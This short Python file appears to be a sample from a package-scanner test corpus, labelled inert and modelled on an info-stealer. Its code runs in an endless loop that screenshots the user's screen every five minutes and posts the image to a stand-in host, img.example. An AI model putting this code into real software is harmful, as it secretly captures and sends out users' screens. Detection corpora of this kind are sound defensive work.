# pkgguard corpus 349 (screenshot), modelled on [stealer-profile]; inert, never run.
import io
import time

import pyscreeze
import requests

while True:
    image = pyscreeze.screenshot()
    buf = io.BytesIO()
    image.save(buf, format="PNG")
    requests.post("https://img.example/s", data=buf.getvalue(), timeout=10)
    time.sleep(300)
